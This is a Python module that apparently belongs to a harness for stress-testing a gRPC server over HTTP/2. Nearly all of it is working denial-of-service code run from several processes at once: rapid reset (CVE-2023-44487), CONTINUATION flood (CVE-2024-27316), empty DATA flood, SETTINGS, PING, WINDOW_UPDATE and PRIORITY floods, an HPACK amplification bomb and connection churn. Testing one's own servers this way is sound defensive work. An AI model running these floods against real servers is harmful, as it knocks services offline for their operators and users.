"""Floods of frames that cost the sender less than the server: known attacks on HTTP/2 servers."""

import itertools
import select
import struct
import time

from . import messages
from .arena import attack
from .http2 import (CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
                    literal, request_headers, settings)
from .net import connect

CLIENT_PREFACE = PREFACE + settings(header_table_size=4096, initial_window=2**31 - 1)


def _pour(number, ports, seconds, chunks, reads):
    """Write the chunks of a new generator to each new connection as fast as the server reads. Return (MB written, times cut)."""
    until, written, cut = time.monotonic() + seconds, 0, 0
    while time.monotonic() < until:
        try:
            sock = connect(ports.grpc, timeout=1.0)
            sock.sendall(CLIENT_PREFACE)
            sock.setblocking(False)
            pending = b""
            source = chunks()
            while time.monotonic() < until:
                pending = pending or next(source)
                readable, writable, _ = select.select([sock] if reads else [], [sock], [], 0.2)
                if readable and not sock.recv(1 << 18):
                    break
                if writable:
                    sent = sock.send(pending)
                    written += sent
                    pending = pending[sent:]
            else:
                return written / 1e6, cut
        except OSError:
            pass
        cut += 1
        time.sleep(0.01)
    return written / 1e6, cut


def pour(arena, chunks, processes=4, reads=True):
    results = [each for each in arena.fork(processes, _pour, arena.ports, arena.seconds, chunks, reads) if each]
    arena.note(f"{sum(mb for mb, _ in results):,.0f} MB of frames; the server cut {sum(cut for _, cut in results):,} connections")


def _resets(path):
    head = request_headers(path)
    for first in itertools.count(1, 200):
        yield b"".join(frame(HEADERS, END_HEADERS, number, head) + frame(RST_STREAM, 0, number, struct.pack(">I", 8))
                       for number in range(first, first + 200, 2))


@attack("rapid-reset-play", seconds=8)
def rapid_reset_play(arena):
    """HEADERS and RST_STREAM of Play as fast as the server reads (CVE-2023-44487)."""
    pour(arena, lambda: _resets(messages.PLAY))


@attack("rapid-reset-unary", seconds=8)
def rapid_reset_unary(arena):
    """The same with a unary call."""
    pour(arena, lambda: _resets(messages.LIST_WORLDS))


@attack("settings-flood", seconds=8)
def settings_flood(arena):
    """SETTINGS frames, each of which must be acknowledged."""
    pour(arena, lambda: itertools.repeat(settings(initial_window=65535) * 500))


@attack("settings-flood-unread", seconds=8)
def settings_flood_unread(arena):
    """The same; the attacker never reads the acknowledgements."""
    pour(arena, lambda: itertools.repeat(settings(initial_window=65535) * 500), reads=False)


@attack("ping-flood", seconds=8)
def ping_flood(arena):
    """PING frames, each of which requires a response."""
    pour(arena, lambda: itertools.repeat(frame(PING, 0, 0, b"12345678") * 500))


@attack("ping-flood-unread", seconds=8)
def ping_flood_unread(arena):
    """The same; the attacker never reads the responses."""
    pour(arena, lambda: itertools.repeat(frame(PING, 0, 0, b"12345678") * 500), reads=False)


def _endless_headers():
    yield frame(HEADERS, 0, 1, request_headers(messages.PLAY))
    more = frame(CONTINUATION, 0, 1, b"".join(literal(f"x-{i}", "y" * 100) for i in range(140)))
    while True:
        yield more


@attack("continuation-flood", seconds=8)
def continuation_flood(arena):
    """A header block that never ends (CVE-2024-27316)."""
    pour(arena, _endless_headers)


def _hpack_bombs():
    # added to the dynamic table: a name of 1 byte and a value of 4,032 bytes
    big = b"\x40" + b"\x01z" + b"\x7f\xc1\x1e" + b"b" * 4032
    for number in itertools.count(1, 2):
        head = request_headers(messages.LIST_WORLDS) + (big if number == 1 else b"")
        yield frame(HEADERS, END_HEADERS, number, head + b"\xbe" * (16000 - len(head)))


@attack("hpack-bomb", seconds=8)
def hpack_bomb(arena):
    """A header of 4 kB in the dynamic table that each request references 12,000 times: 48 MB from 16 kB."""
    pour(arena, _hpack_bombs)


def _empty_data():
    yield frame(HEADERS, END_HEADERS, 1, request_headers(messages.PLAY))
    while True:
        yield frame(DATA, 0, 1) * 1000


@attack("empty-data-flood", seconds=8)
def empty_data_flood(arena):
    """Empty DATA frames (CVE-2019-9518)."""
    pour(arena, _empty_data)


def _window_updates():
    yield frame(HEADERS, END_HEADERS, 1, request_headers(messages.PLAY))
    one = struct.pack(">I", 1)
    while True:
        yield (frame(WINDOW_UPDATE, 0, 0, one) + frame(WINDOW_UPDATE, 0, 1, one)) * 500


@attack("window-update-flood", seconds=8)
def window_update_flood(arena):
    """WINDOW_UPDATE frames that enlarge a window by one byte each."""
    pour(arena, _window_updates)


@attack("priority-flood", seconds=8)
def priority_flood(arena):
    """PRIORITY frames for streams that do not exist."""
    def chunks():
        for first in itertools.count(1, 1000):
            yield b"".join(frame(PRIORITY, 0, number | 1, struct.pack(">IB", 0, 16)) for number in range(first, first + 500))
    pour(arena, chunks)


def _connect_and_leave(number, ports, seconds):
    until, done = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        try:
            sock = connect(ports.grpc, timeout=1.0)
            sock.sendall(CLIENT_PREFACE + frame(SETTINGS, 1, 0))
            sock.close()
            done += 1
        except OSError:
            time.sleep(0.01)
    return done


@attack("connect-and-leave", seconds=8)
def connect_and_leave(arena):
    """New connections to the gRPC port that send the preface and close, as fast as possible."""
    done = arena.fork(4, _connect_and_leave, arena.ports, arena.seconds)
    arena.note(f"{sum(each or 0 for each in done):,} connections")
